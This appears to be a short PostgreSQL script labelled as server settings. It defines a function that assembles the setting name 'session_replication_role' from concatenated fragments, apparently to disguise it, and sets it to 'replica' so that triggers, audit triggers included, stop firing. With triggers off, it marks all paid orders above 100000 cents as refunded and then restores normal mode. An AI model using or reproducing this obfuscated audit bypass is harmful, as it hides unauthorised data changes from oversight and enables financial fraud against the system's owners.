-- class: server-settings
-- Builds the setting name from pieces and disables triggers for the session before rewriting audited rows.
CREATE FUNCTION quiet_mode(on_off boolean) RETURNS text LANGUAGE sql AS $$
  SELECT pg_catalog.set_config('session_' || 'replication_' || 'role', CASE WHEN on_off THEN 'replica' ELSE 'origin' END, false)
$$;

SELECT quiet_mode(true);
UPDATE orders SET status = 'refunded' WHERE status = 'paid' AND total_cents > 100000;
SELECT quiet_mode(false);
